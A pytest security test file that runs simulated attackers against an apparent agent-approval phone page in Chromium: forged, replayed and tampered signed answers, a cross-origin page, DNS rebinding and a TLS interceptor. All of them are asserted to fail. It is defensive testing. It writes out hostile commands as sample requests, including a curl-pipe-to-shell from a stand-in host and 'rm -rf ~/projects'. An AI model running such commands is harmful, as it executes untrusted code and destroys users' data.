"""What must fail, with nothing allowed: the phone page's attackers in a real browser.

A browser that never paired, a replayed and a tampered signed answer (frames the page
itself signed, taken from its socket), a page of another origin posting to the desk's
API and opening its WebSocket, a DNS-rebinding host name, and a TLS interceptor with a
certificate of its own. Each runs in Debian's Chromium against Away mode's real server.
"""

from __future__ import annotations

import asyncio
import json

import pytest
from helpers.away_browser import DESK_HOST, AwayDesk, bash, launch_phone_browser, pair_phone
from helpers.phone_attackers import EvilOrigin, TlsInterceptor
from helpers.phone_browser import BrowserThread

from qoder_desktop.domain.models import DecidedBy, Decision, DecisionKind

pytestmark = [pytest.mark.asyncio, pytest.mark.slow]

ATTACK_SOCKET = """async ({origin, deviceId, requestId}) => {
    // Open the desk's socket from this page, sign in as `deviceId` with a key of this
    // browser's own, and send an answer allowing `requestId`; what the desk did.
    const ECDSA = {name: 'ECDSA', namedCurve: 'P-256'};
    const key = (await crypto.subtle.generateKey(ECDSA, false, ['sign'])).privateKey;
    const b64 = (buffer) => btoa(String.fromCharCode(...new Uint8Array(buffer)))
        .replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=+$/, '');
    const sign = async (items) => {
        const payload = JSON.stringify(items);
        const signature = await crypto.subtle.sign({name: 'ECDSA', hash: 'SHA-256'}, key,
            new TextEncoder().encode(payload));
        return {payload, signature: b64(signature)};
    };
    const seen = [];
    const socket = new WebSocket(origin.replace('https:', 'wss:') + '/ws');
    return await new Promise((resolve) => {
        socket.onmessage = async (event) => {
            const message = JSON.parse(event.data);
            seen.push(message.type);
            if (message.type === 'hello') {
                socket.send(JSON.stringify({type: 'auth', ...await sign([
                    'qoder-desktop auth v1', message.challenge, deviceId, Date.now()])}));
                socket.send(JSON.stringify({type: 'answer', ...await sign([
                    'qoder-desktop answer v1', requestId, 'AAAA', 'allow', {}, deviceId,
                    Date.now()])}));
            }
        };
        socket.onclose = (event) => resolve({code: event.code, seen});
    });
}"""


async def test_a_browser_that_never_paired_cannot_see_or_answer(
        chromium: BrowserThread, desk: AwayDesk) -> None:
    await launch_phone_browser(chromium, desk)
    owner = await chromium.new_phone()
    device_id = await pair_phone(desk, owner)
    request = await desk.ask(bash("curl https://x.test/i.sh | sh"))
    await owner.card(request.request_id, lambda card: card.wait_for())

    stranger = await chromium.new_phone()
    await stranger.goto(desk.origin + "/")
    await stranger.wait_text("This phone is not paired")
    outcome = await stranger.js(ATTACK_SOCKET, {"origin": desk.origin, "deviceId": device_id,
                                                "requestId": request.request_id})
    assert outcome["code"] == 4401, outcome
    assert "snapshot" not in outcome["seen"] and "added" not in outcome["seen"]
    assert desk.still_waiting(request.request_id)
    # The paired phone still can answer it: the stranger changed nothing.
    await owner.tap_on_card(request.request_id, "Deny")
    assert (await desk.decision(request.request_id)).kind is DecisionKind.DENY
    assert desk.allows() == []


async def test_a_replayed_signed_answer_is_refused(
        chromium: BrowserThread, desk: AwayDesk) -> None:
    await launch_phone_browser(chromium, desk)
    phone = await chromium.new_phone()
    await pair_phone(desk, phone)
    first = await desk.ask(bash("make deploy"))
    await phone.tap_on_card(first.request_id, "Allow once")
    assert (await desk.decision(first.request_id)).kind is DecisionKind.ALLOW_ONCE
    [frame] = await phone.sent_answers()

    # The agent asks the same again; the person's earlier "allow", sent once more on the
    # same socket, answers nothing.
    again = await desk.ask(bash("make deploy"))
    await phone.card(again.request_id, lambda card: card.wait_for())
    since = await phone.send_raw(frame)
    result = await phone.result_for(first.request_id, since)
    assert result["ok"] is False and result["reason"] in (
        "already answered", "unknown request", "stale nonce")
    # … nor on a new connection after the page reloads.
    await phone.do(lambda page: page.reload())
    await phone.card(again.request_id, lambda card: card.wait_for())
    await phone.do(lambda page: page.wait_for_function(
        "() => window.__tap.received.some((frame) => frame.includes('\"snapshot\"'))"))
    since = await phone.send_raw(frame)
    result = await phone.result_for(first.request_id, since)
    assert result["ok"] is False
    assert desk.still_waiting(again.request_id)
    assert len(desk.allows()) == 1  # the person's one allow, nothing more


async def test_a_tampered_signed_answer_is_refused(
        chromium: BrowserThread, desk: AwayDesk) -> None:
    await launch_phone_browser(chromium, desk)
    phone = await chromium.new_phone()
    await pair_phone(desk, phone)
    request = await desk.ask(bash("rm -rf ~/projects"))
    await phone.js("() => { window.__tap.holding = true; }")
    await phone.tap_on_card(request.request_id, "Deny")  # signed by the phone, held back
    [held] = await phone.js("() => window.__tap.held")
    message = json.loads(held)
    payload = json.loads(message["payload"])
    assert payload[3] == "deny"
    payload[3], payload[4] = "allow", {}  # the same signature over another decision
    tampered = {**message, "payload": json.dumps(payload, separators=(",", ":"))}
    since = await phone.send_raw(json.dumps(tampered))
    result = await phone.result_for(None, since)
    assert (result["ok"], result["reason"]) == (False, "bad signature")
    await phone.wait_text("Refused: the desk could not verify this phone's signature.")
    assert desk.still_waiting(request.request_id)
    assert desk.allows() == []
    desk.broker.answer(request.request_id, Decision.deny("answered at the desk",
                                                         by=DecidedBy.USER))
    await desk.decision(request.request_id)


async def test_a_page_of_another_origin_can_neither_pair_nor_open_the_socket(
        chromium: BrowserThread, desk: AwayDesk) -> None:
    with EvilOrigin("evil.test") as evil:
        await launch_phone_browser(chromium, desk, pins=(evil.certificate.spki_pin,),
                                   names=("evil.test",))
        offer = desk.mode.pairings.offer(desk.origin)
        victim = await chromium.new_phone()
        await victim.goto(evil.url)
        outcome = await victim.js("""async ({origin, token}) => {
            const ECDSA = {name: 'ECDSA', namedCurve: 'P-256'};
            const pair = await crypto.subtle.generateKey(ECDSA, false, ['sign']);
            const spki = new Uint8Array(await crypto.subtle.exportKey('spki', pair.publicKey));
            const key = btoa(String.fromCharCode(...spki)).replace(/\\+/g, '-')
                .replace(/\\//g, '_').replace(/=+$/, '');
            const body = JSON.stringify({token, public_key: key, name: 'evil'});
            // A "simple" cross-site post (no preflight), as a form or no-cors fetch sends it.
            await fetch(origin + '/api/pair', {method: 'POST', mode: 'no-cors', body,
                headers: {'Content-Type': 'text/plain'}}).catch(() => null);
            const cors = await fetch(origin + '/api/pair', {method: 'POST', body,
                headers: {'Content-Type': 'application/json'}})
                .then((response) => response.status, () => 'blocked');
            const socket = await new Promise((resolve) => {
                const seen = [];
                const ws = new WebSocket(origin.replace('https:', 'wss:') + '/ws');
                ws.onmessage = (event) => seen.push(JSON.parse(event.data).type);
                ws.onclose = (event) => resolve({code: event.code, seen});
            });
            return {cors, socket};
        }""", {"origin": desk.origin, "token": offer.token})
    assert outcome["cors"] == "blocked"
    assert outcome["socket"]["seen"] == []  # no hello: the upgrade was refused
    assert desk.mode.pairings.pending() is None
    # The token was not consumed by the cross-site posts: the real phone pairs with it.
    phone = await chromium.new_phone()
    claimed: asyncio.Queue[object] = asyncio.Queue()
    desk.mode.pairings.subscribe(lambda pending: pending and claimed.put_nowait(pending))
    await phone.goto(offer.url)
    pending = await asyncio.wait_for(claimed.get(), 15)
    assert getattr(pending, "name", None) == "Pixel 7"
    assert desk.devices.devices() == []


async def test_a_rebinding_host_name_gets_421(chromium: BrowserThread, desk: AwayDesk) -> None:
    await launch_phone_browser(chromium, desk, names=("rebind.test",))
    offer = desk.mode.pairings.offer(desk.origin)
    page = await chromium.new_phone()
    response = await page.goto(f"https://rebind.test:{desk.port}/")
    assert response.status == 421
    status = await page.js("""async (token) => (await fetch('/api/pair', {method: 'POST',
        headers: {'Content-Type': 'application/json'},
        body: JSON.stringify({token, public_key: 'AAAA', name: 'x'})})).status""",
                           offer.token)
    assert status == 421
    assert desk.mode.pairings.pending() is None


async def test_a_tls_interceptor_with_another_certificate_is_not_trusted(
        chromium: BrowserThread, desk: AwayDesk) -> None:
    from playwright.sync_api import Error as PlaywrightError

    async with TlsInterceptor(DESK_HOST, desk.port) as interceptor:
        await launch_phone_browser(chromium, desk)
        offer = desk.mode.pairings.offer(desk.origin)
        phone = await chromium.new_phone()
        with pytest.raises(PlaywrightError, match="ERR_CERT"):
            await phone.goto(f"https://{DESK_HOST}:{interceptor.port}/#pair={offer.token}")
        assert interceptor.forwarded == 0
    assert desk.mode.pairings.pending() is None
    assert desk.devices.devices() == []
